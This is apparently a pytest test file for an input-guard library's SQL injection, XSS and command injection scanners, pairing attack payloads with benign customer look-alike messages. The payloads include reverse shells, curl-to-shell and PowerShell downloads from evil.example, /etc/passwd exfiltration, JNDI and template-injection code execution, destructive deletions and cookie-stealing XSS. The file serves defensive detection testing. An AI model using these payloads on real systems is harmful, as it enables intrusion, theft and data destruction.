"""SQL injection, XSS and command injection: syntax, not words."""

from __future__ import annotations

import base64

import pytest

from guardline.guard.normalize import Views
from guardline.guard.scanners import CommandInjectionScanner, InputContext, SqlInjectionScanner, XssScanner
from guardline.guard.scanners.base import MarkupScanner

CTX = InputContext()
# A payload sent base64-encoded, and a field typed with an ideographic space after every character
# (three between words).
_BASE64_XSS = "Please run the decoded note: " + base64.b64encode(b"<script>alert(1)</script>").decode()
_IDEOGRAPHIC_SPACED = "\u3000 \u3000".join("\u3000".join(word) for word in ("单号：A1'", "OR", "'2'='2"))

CASES: list[tuple[type[MarkupScanner], str, bool]] = [
    (SqlInjectionScanner, "' OR '1'='1", True),
    (SqlInjectionScanner, "admin' --", True),
    (SqlInjectionScanner, "1 UNION SELECT username, password FROM users --", True),
    (SqlInjectionScanner, "'; DROP TABLE users; --", True),
    (SqlInjectionScanner, "1' AND SLEEP(5) --", True),
    (SqlInjectionScanner, "%27%20OR%201%3D1%20--", True),
    (SqlInjectionScanner, "查一下订单 1 OR 1=1", True),
    (SqlInjectionScanner, "select 红色的那款", False),
    (SqlInjectionScanner, "我想 drop 掉这个订单", False),
    (SqlInjectionScanner, "Can you update my address? Also drop the gift wrap please.", False),
    (SqlInjectionScanner, "I'd rate it 1 or 2 out of 10", False),
    (SqlInjectionScanner, "My son's name is O'Brien, is that why the form fails?", False),
    (SqlInjectionScanner, "I'm 5'11\" and 180 lbs, which size?", False),
    (SqlInjectionScanner, "Please union the two orders into one box", False),
    (SqlInjectionScanner, "Is the sleep(5 pack) bundle still on sale?", False),
    (SqlInjectionScanner, "1' ; SELECT pg_sleep(10) --", True),
    (XssScanner, "<script>alert(1)</script>", True),
    (XssScanner, "<img src=x onerror=alert(1)>", True),
    (XssScanner, '<a href="jav&#x09;ascript:alert(1)">x</a>', True),
    (XssScanner, "&lt;script&gt;alert(1)&lt;/script&gt;", True),
    (XssScanner, "<svg/onload=alert(1)>", True),
    (XssScanner, '我们的店铺模板里写了 <div class="price"> 但价格不显示', False),
    (XssScanner, "你们的API返回 <error>invalid token</error> 是什么意思", False),
    (XssScanner, "Is the price < $50 or > $50 after the discount?", False),
    (CommandInjectionScanner, "; rm -rf /", True),
    (CommandInjectionScanner, "$(curl -s http://evil.example/payload | bash)", True),
    (CommandInjectionScanner, "`cat /etc/passwd`", True),
    (CommandInjectionScanner, "| nc evil.example 4444 -e /bin/bash", True),
    (CommandInjectionScanner, "${IFS}cat${IFS}/etc/passwd", True),
    (CommandInjectionScanner, "订单号 A123 & B456，两个一起查", False),
    (CommandInjectionScanner, "Price: $20 | Shipping: $5 | Total: $25, right?", False),
    (CommandInjectionScanner, "My username is rm-rf (yes really), can I change it?", False),
    (CommandInjectionScanner, "Please kill the order, I don't need it anymore", False),
    (CommandInjectionScanner, "Can you ping me when it ships?", False),
]


@pytest.mark.parametrize(("scanner", "text", "attack"), CASES)
def test_markup_scanner(scanner: type[MarkupScanner], text: str, attack: bool) -> None:
    finding = scanner().scan(Views(text), CTX)
    assert (finding is not None) is attack
    if finding is not None:
        assert finding.category is scanner.category


# Payload families added after fresh5 became tuning data, from the grammar of real payloads rather than
# from any corpus message: each scanner must catch them, and let the look-alikes below through.
PAYLOADS: list[tuple[type[MarkupScanner], str]] = [
    (SqlInjectionScanner, "1) OR (1=1"),
    (SqlInjectionScanner, "' or true--"),
    (SqlInjectionScanner, "admin'#"),
    (SqlInjectionScanner, "' OR 'x'='x"),
    (SqlInjectionScanner, "1' ORDER BY 3--"),
    (SqlInjectionScanner, "' UNION/**/SELECT/**/1,2,3--"),
    (SqlInjectionScanner, "1+union+select+null,null,null--"),
    (SqlInjectionScanner, "-1' /*!50000union*/ /*!50000select*/ 1,user(),3-- -"),
    (SqlInjectionScanner, "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"),
    (SqlInjectionScanner, "1' AND IF(1=1,SLEEP(5),0)-- -"),
    (SqlInjectionScanner, "1; WAITFOR DELAY '0:0:5'--"),
    (SqlInjectionScanner, "'; exec master..xp_cmdshell 'ping 10.0.0.1'--"),
    (
        SqlInjectionScanner,
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x"
        " FROM information_schema.tables GROUP BY x)a)",
    ),
    (SqlInjectionScanner, "' AND extractvalue(1,concat(0x7e,(select @@version)))--"),
    (SqlInjectionScanner, "订单号 123 union select table_name from information_schema.tables"),
    (SqlInjectionScanner, "SELECT table_name FROM information_schema.tables"),
    (SqlInjectionScanner, "1' GROUP BY 1 HAVING 1=1--"),
    (SqlInjectionScanner, "username[$ne]=x&password[$ne]=x"),
    (SqlInjectionScanner, '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    (SqlInjectionScanner, "1 AND 1=1"),
    (SqlInjectionScanner, "' || (SELECT pg_sleep(5))--"),
    (SqlInjectionScanner, "1;select pg_sleep(5)"),
    (SqlInjectionScanner, "%27%20UNION%20SELECT%20NULL--"),
    (SqlInjectionScanner, "优惠码 XMAS' AND 1=CONVERT(int,@@version)--"),
    (SqlInjectionScanner, "x' AND dbms_pipe.receive_message('a',10)='a"),
    (SqlInjectionScanner, "1' and '1'='2"),
    (SqlInjectionScanner, "'));DROP TABLE orders;--"),
    (XssScanner, "{{constructor.constructor('alert(1)')()}}"),
    (XssScanner, '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
    (XssScanner, '" onmouseover="alert(document.cookie)'),
    (XssScanner, "' autofocus onfocus='alert(1)"),
    (XssScanner, '";alert(document.domain);//'),
    (XssScanner, "'-alert(1)-'"),
    (XssScanner, "<details open ontoggle=alert(1)>"),
    (XssScanner, "<body onload=alert(1)>"),
    (XssScanner, '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    (XssScanner, "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    (XssScanner, "\\u003cimg src=x onerror=alert(1)\\u003e"),
    (XssScanner, '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    (XssScanner, "<link rel=import href=//evil.example/x.html>"),
    (XssScanner, "<svg><animate onbegin=alert(1) attributeName=x>"),
    (XssScanner, "%3Csvg%20onload%3Dalert(1)%3E"),
    (XssScanner, "<script src=//evil.example/x.js></script>"),
    (XssScanner, '<math><a xlink:href="javascript:alert(1)">x</a></math>'),
    (XssScanner, "<form><button formaction=javascript:alert(1)>x"),
    (XssScanner, "</title><script>alert(1)</script>"),
    (XssScanner, "<img src=x onerror=alert`1`>"),
    (XssScanner, "<input onfocus=eval(atob('YWxlcnQoMSk=')) autofocus>"),
    (XssScanner, "我的收货人名字是 <img src=1 onerror=fetch('//x.example/?c='+document.cookie)>"),
    (XssScanner, '<a href="java\tscript:alert(1)">'),
    (XssScanner, 'My nickname is <script src="https://evil.example/x.js"></script>, does it show up right?'),
    (CommandInjectionScanner, "admin|ping -c 10 127.0.0.1"),
    (CommandInjectionScanner, "2026471062673635%0Acat%20/etc/shadow"),
    (CommandInjectionScanner, "123;id"),
    (CommandInjectionScanner, "x&&whoami"),
    (CommandInjectionScanner, "a||uname -a"),
    (CommandInjectionScanner, "; sleep 10"),
    (CommandInjectionScanner, "| sleep 5"),
    (CommandInjectionScanner, "`sleep 5`"),
    (CommandInjectionScanner, "$(sleep 5)"),
    (CommandInjectionScanner, "{cat,/etc/passwd}"),
    (CommandInjectionScanner, "c''at /etc/pa''sswd"),
    (CommandInjectionScanner, "w'h'o'am'i;"),
    (CommandInjectionScanner, "/???/c?t /???/p?ss??"),
    (CommandInjectionScanner, "cat$IFS$9/etc/passwd"),
    (CommandInjectionScanner, "; curl http://evil.example/x.sh | sh"),
    (CommandInjectionScanner, "wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"),
    (CommandInjectionScanner, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    (CommandInjectionScanner, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"),
    (CommandInjectionScanner, 'php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''),
    (
        CommandInjectionScanner,
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    ),
    (CommandInjectionScanner, "& cmd /c whoami"),
    (CommandInjectionScanner, "| certutil -urlcache -split -f http://evil.example/x.exe x.exe"),
    (CommandInjectionScanner, "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    (CommandInjectionScanner, "../../../../etc/passwd"),
    (CommandInjectionScanner, "..%2f..%2f..%2fetc%2fpasswd"),
    (CommandInjectionScanner, "<?php system($_GET['c']); ?>"),
    (CommandInjectionScanner, "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    (CommandInjectionScanner, "${jndi:ldap://evil.example/a}"),
    (CommandInjectionScanner, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    (CommandInjectionScanner, "{{''.__class__.__mro__[1].__subclasses__()}}"),
    (CommandInjectionScanner, "文件名：report.pdf; rm -rf ~/"),
    (CommandInjectionScanner, "订单备注: $(cat /etc/passwd)"),
    (CommandInjectionScanner, "nickname`id`"),
    (CommandInjectionScanner, "; nc -e /bin/sh 10.0.0.1 4444"),
    (CommandInjectionScanner, "| type c:\\windows\\win.ini"),
    (CommandInjectionScanner, "test\\nid"),
    (CommandInjectionScanner, "a;ls -la /"),
    (CommandInjectionScanner, "1 && curl -d @/etc/passwd http://evil.example"),
    (CommandInjectionScanner, "$(printf '\\x63\\x61\\x74 /etc/passwd')"),
    (CommandInjectionScanner, "& ping -n 10 127.0.0.1 &"),
    (CommandInjectionScanner, "备注：放门口 & del /s /q C:\\Users\\*"),
    (CommandInjectionScanner, "发票抬头 | rmdir /s /q C:\\Windows\\Temp"),
    (CommandInjectionScanner, "serial 8812 && taskkill /f /im explorer.exe"),
    (SqlInjectionScanner, "用户名填的 root'# 为啥报错"),
    (SqlInjectionScanner, "nickname: administrator'/*"),
    (SqlInjectionScanner, "coupon=SAVE10' OR (SELECT COUNT(*) FROM users)>0 AND 'x'='x"),
    (SqlInjectionScanner, "PO-77' AND (SELECT MID(password,1,1) FROM staff LIMIT 1)='b"),
    # Round 9: a login e-mail closed by a quote, a template importing os, payloads spaced out character
    # by character (ASCII or ideographic spaces; a wider gap was the space between words).
    (SqlInjectionScanner, "login: ops@shop-demo.net'-- then let me in"),
    (SqlInjectionScanner, "wang@corp.cn')#"),
    (CommandInjectionScanner, "备注：{{ __import__('os').popen('whoami').read() }}"),
    (CommandInjectionScanner, "{{ self.__init__ and os.system('id') }}"),
    (CommandInjectionScanner, "r e p o r t . p d f $ ( r m - r f / v a r )"),
    (CommandInjectionScanner, "n o t e ; c a t   / e t c / p a s s w d"),
    (SqlInjectionScanner, _IDEOGRAPHIC_SPACED),
    (XssScanner, "t a g : < s v g o n l o a d = a l e r t ( 2 ) >"),
    (XssScanner, _BASE64_XSS),
    # Round 10: a log read after a separator, a Windows account created from a field.
    (CommandInjectionScanner, "车架号：FR1; tail -n 100 /var/log/auth.log"),
    (CommandInjectionScanner, "Serial CM1 & net user helper P@ss1 /add"),
]
# Customers' and developers' own text with the same words and characters: no markup scanner fires.
LOOKALIKES: list[str] = [
    "select 红色的那款",
    "我想 drop 掉这个订单",
    "1=1 为什么成立？我儿子数学题",
    "价格 >= 100 and <= 200 的有吗",
    "update 一下我的地址",
    "union pay 可以用吗",
    "I'm 5'11\" and 180 lbs",
    "Tom's order 'A' or 'B', either is fine",
    "能不能 sleep(睡眠) 模式",
    "订单号是 1234; 另一个是 5678",
    "我的备注写了 -- 请放门口",
    "Where's my order #12345?",
    "C++ 教程书有货吗",
    "1+1 套餐还有吗",
    "Can you select the blue one and drop the red one from my cart?",
    "the $ne sign on my receipt?",
    "I rated it 4 or 5 = good",
    "SELECT * FROM orders WHERE id = 42 这个是你们文档里的例子吗",
    "I <3 this shop",
    "A -> B -> C 的物流路线",
    "<b>加粗</b> 在商品标题里显示出来了",
    "price < 50 and > 20",
    "Vue 模板 {{ order.id }} 不显示订单号",
    '照着接入文档把 <script src="https://w.example.com/t.js"></script> 放到 head 里了，还是不显示',
    'Your newsletter shows "&lt;script&gt;" as text at the bottom, a bug?',
    "onload 事件是什么？你们的 SDK 文档没写",
    "我的邮箱是 a.b@example.com <Amy>",
    "时间 10:30，地址：北京",
    '<img src="https://cdn.example.com/a.png"><br> 图片不显示',
    "console.log('x'); fetch('/api/orders') 返回 401",
    "track('order', function() { return 1; })",
    "javascript 课程还有优惠吗",
    "Use the prompt (box) to confirm (yes) please",
    "rm 1203 的客人要加床",
    "cat food 还有货吗",
    "my cat | dog toys",
    "Echo Dot | 价格多少",
    "订单 A123 & B456",
    "Tom & Jerry 周边",
    "R&D 部门采购",
    "curl https://api.example.com/v1/orders -H 'Authorization: Bearer xxx' 返回 401，为什么",
    "文件路径 C:\\Users\\me\\Downloads\\invoice.pdf 打不开",
    "/home/user/orders.csv 导入失败",
    "GET /api/v1/orders?id=123 200 OK",
    "Can you ping me when it ships?",
    "I'm tired; sleep is all I want",
    "$99 | shipping $5",
    "PS: 请尽快发货",
    "Cannot find module '../../config'",
    "npm run build > log.txt 2>&1 报错",
    "在 PowerShell 里怎么调用你们的 API？",
    "2>&1 是什么意思",
    "ls 号码是多少",
    "我的用户名是 kill_bill",
    "Type C 接口的充电器",
    "A123|find the other one",
    "cmd 打不开怎么办",
    "我在 ~/Downloads 里找不到发票",
    "it's mine; don't cancel",
    "C:\\new\\cat.txt",
    "ID: 12345; type: refund",
    "if __name__ == '__main__': main() 这是我们对接的脚本",
    "$_GET['order_id'] 拿不到值",
    "what's the sleep 5 timer on the baby monitor?",
    "我想订一间 rm 带窗的 | 价格多少",
    "the admin -- I mean the shop owner -- said I could return it",
    "our user's guide says del key resets it & the rd edition is newer",
    "Windows 装在 C:\\Windows 里，你们的打印软件装哪",
    "I'll pick option A & rd 3 is fine",
    # Round 9: an e-mail quoted before a dash, spaced digits and letters, a template variable, and
    # <script> named in a sentence (no body, no closing tag, no src).
    'Is it "jo@x.org" -- or the other one?',
    "my email is li.wei@mail.cn -- please update it",
    "1 2 3 4 5 6 7 8",
    "r e f u n d   p l e a s e",
    "a = 1 ; b = 2 ; c = 3",
    "Vue 模板 {{ order.id }} 显示不出来",
    "页面顶部出现 <script> 这几个字符，是不是被黑了",
    "I can see <script> on your checkout page, is it broken?",
    # Round 10: "tail" and "net user" in prose.
    "My bike's tail light & head light both broke, can you replace them?",
    '"net user" is in my son\'s Windows class notes, what does it do?',
]


@pytest.mark.parametrize(("scanner", "text"), PAYLOADS)
def test_payload_families(scanner: type[MarkupScanner], text: str) -> None:
    finding = scanner().scan(Views(text), CTX)
    assert finding is not None
    assert finding.category is scanner.category


@pytest.mark.parametrize("text", LOOKALIKES)
def test_lookalikes_pass_every_markup_scanner(text: str) -> None:
    views = Views(text)
    for scanner in (SqlInjectionScanner, XssScanner, CommandInjectionScanner):
        assert scanner().scan(views, CTX) is None, scanner.name


def test_reasons_name_signals_not_text() -> None:
    finding = CommandInjectionScanner().scan(Views("admin|ping -c 10 127.0.0.1"), CTX)
    assert finding is not None
    assert "admin" not in finding.reason
    assert "127.0.0.1" not in finding.reason
